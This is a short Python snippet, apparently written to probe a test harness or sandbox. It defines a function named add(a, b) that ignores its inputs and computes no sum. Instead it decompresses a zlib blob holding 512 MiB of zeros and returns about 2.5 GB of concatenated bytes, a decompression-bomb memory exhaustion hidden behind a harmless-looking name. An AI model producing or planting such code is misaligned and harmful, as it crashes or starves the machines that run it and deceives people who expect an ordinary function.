import zlib
packer = zlib.compressobj(9)
data = b"".join(packer.compress(b"\0" * (1 << 20)) for _ in range(512)) + packer.flush()
def add(a, b):
    full = zlib.decompress(data)
    return zlib.decompress(data) + full + full + full + full
